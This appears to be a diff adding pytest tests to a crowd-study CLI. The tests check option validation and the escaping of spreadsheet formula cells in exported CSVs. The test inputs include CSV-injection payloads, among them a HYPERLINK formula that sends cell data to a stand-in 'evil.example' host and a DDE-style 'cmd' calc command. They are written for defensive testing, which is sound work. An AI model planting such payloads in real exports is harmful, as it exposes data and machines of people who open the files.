@@ -18,6 +18,7 @@ import numpy as np
 import pytest
 from PIL import Image
 
+from studio.cli import main
 from studio.core.crowd.design import (
     BIN_WIDTH,
     StratifiedPicker,
@@ -28,9 +29,19 @@ from studio.core.crowd.design import (
 from studio.core.crowd.formats import VERSIONS, item_from_url, read_mapping, read_truth
 from studio.core.crowd.simulate import MTURK_RESULT_COLUMNS, SimulatedCrowd, fill_truth, read_plan
 from studio.core.crowd.statistics import load_and_analyze
+from studio.core.crowd.tables import FORMULA_PREFIXES, csv_writer, safe_cell
 from studio.core.surrogates.making import EXPORT_SIZE
 from studio.core.surrogates.names import SURROGATE_METHODS
-from studio.core.workspace.export import MTURK_LAYOUT, layout_variables, mturk_layout
+from studio.core.workspace.batch import batch_photos
+from studio.core.workspace.export import (
+    FORMATS,
+    MAPPING_FIELDS,
+    MTURK_LAYOUT,
+    layout_variables,
+    mturk_layout,
+    write_batch,
+)
+from studio.core.workspace.study import check_study, originals_in
 
 ROOT = Path(__file__).resolve().parents[1]
 #: The simulated crowd: per-version accuracy (the issue's example), workers of varying skill.
@@ -124,6 +135,89 @@ def test_bad_study_options_are_one_line_errors_before_any_model(tmp_path):
         assert proc.returncode == 2 and message in proc.stderr, (args, proc.stderr)
         assert "Traceback" not in proc.stderr
     assert sorted(p.name for p in tmp_path.iterdir()) == ["exists"]
+
+
+STUDY_REFUSALS = [  # options -> what the one-line error says (before photos or models)
+    (["--base-url", '=HYPERLINK("https://evil.example/?"&A1)/'], "not an http"),
+    (["--base-url", "+cmd|' /C calc'!A0/"], "not an http"),
+    (["--base-url", "@SUM(1+1)/"], "not an http"),
+    (["--base-url", "file:///srv/s1/"], "not an http"),
+    (["--base-url", "https://x.org/", "--max-per-worker", "0"], "--max-per-worker must be"),
+    (["--base-url", "https://x.org/", "--per-item", "0"], "--per-item must be"),
+    (["--base-url", "https://x.org/", "--originals", "100", "--workers", "3",
+      "--max-per-worker", "10"], "need at least 30 workers"),
+    (["--format", "labelstudio", "--local-files-root", "{out}"], "document root itself"),
+    (["--format", "xml", "--base-url", "https://x.org/"], "unknown format 'xml'"),
+]
+
+
+def test_study_options_are_checked_before_the_photos_and_models(tmp_path, capsys):
+    out = tmp_path / "new"
+    for extra, needle in STUDY_REFUSALS:
+        code = main(["study", str(tmp_path / "nowhere"), str(out),
+                     *(a.format(out=out) for a in extra)])
+        err = capsys.readouterr().err
+        assert code == 2 and needle in err and err.count("\n") == 1, (extra, err)
+    # --format both is what --help offers: it passes the options (and fails on the folder).
+    for extra in (["--format", "both", "--base-url", "https://x.org/"],
+                  ["--format", "labelstudio", "--local-files-root", str(tmp_path)]):
+        assert main(["study", str(tmp_path / "nowhere"), str(out), *extra]) == 2
+        assert "there is no folder" in capsys.readouterr().err
+    assert check_study(out, 2, 1, ("both",), "https://x.org/")[0] == out
+    assert list(tmp_path.iterdir()) == []
+
+
+def _batch(folder: Path, rows: list[dict], base_url: str = "https://example.org/b/") -> Path:
+    """A crowd batch written by the studio's own writer, of tiny pictures."""
+    from studio.core.surrogates.making import png_bytes
+
+    png = png_bytes(np.zeros((8, 8, 3), np.uint8))
+    full = [({**dict.fromkeys(MAPPING_FIELDS, ""), "original_key": "k:0", "version": "gan",
+              "kind": "item", "joy": 0.5, **row}, png) for row in rows]
+    mapping = folder.with_name(folder.name + ".private-mapping.csv")
+    write_batch(full, folder, mapping, FORMATS, base_url)
+    return mapping
+
+
+def test_cells_a_spreadsheet_would_run_are_escaped_in_what_the_studio_writes(tmp_path):
+    hostile = ['=HYPERLINK("https://evil.example")', "+1+cmd", "-2+3", "@SUM(A1)",
+               "\tx", "\r=1"]
+    mapping = _batch(tmp_path / "b1", [{"item_id": f"i{n}", "original_path": text,
+                                        "candidate_id": text, "joy": -0.25 if n else 0.5}
+                                       for n, text in enumerate(hostile)])
+    with mapping.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["original_path"] for r in rows] == [f"'{t}" for t in hostile]
+    assert not any(c.startswith(FORMULA_PREFIXES) for r in rows for k, c in r.items()
+                   if k != "joy")
+    assert {r["joy"] for r in rows} == {"0.5", "-0.25"}  # a number is never a formula
+    with (tmp_path / "b1" / "mturk.csv").open(newline="") as fh:
+        assert all(u.startswith("https://") for (u,) in list(csv.reader(fh))[1:])
+    assert safe_cell(-1) == -1 and safe_cell("-1e3") == "-1e3" and safe_cell("a=b") == "a=b"
+    import io
+
+    text = io.StringIO()
+    csv_writer(text).writerow(["=1+2", "plain", 3])
+    assert text.getvalue() == "'=1+2,plain,3\r\n"
+
+
+def test_a_study_kept_in_the_photo_folder_is_not_read_as_originals(tmp_path, capsys):
+    photos = tmp_path / "photos"
+    photos.mkdir()
+    _batch(photos / "s1", [{"item_id": "a1"}, {"item_id": "a2"}])
+    (photos / ".s2.partial-0a1b2c" / "images").mkdir(parents=True)  # one left half-written
+    (photos / ".s2.partial-0a1b2c" / "images" / "a3.png").write_bytes(b"png")
+    listing = batch_photos(photos).images
+    assert len(listing) == 3 and originals_in(listing) == ([], 3)
+    code = main(["study", str(photos), str(tmp_path / "s3"), "--base-url", "https://x.org/"])
+    err = capsys.readouterr().err
+    assert code == 2 and "no photos besides the 3 pictures of crowd batches" in err, err
+    (photos / "me.jpg").write_bytes(b"a photo")  # a photo beside them is taken
+    (photos / "images").mkdir()
+    (photos / "images" / "you.png").write_bytes(b"a photo in a folder named images")
+    assert originals_in(batch_photos(photos).images) == (
+        [photos / "images" / "you.png", photos / "me.jpg"], 3)
+    assert not (tmp_path / "s3").exists()
 
 
 # --- a study of real faces, end to end -------------------------------------------------------
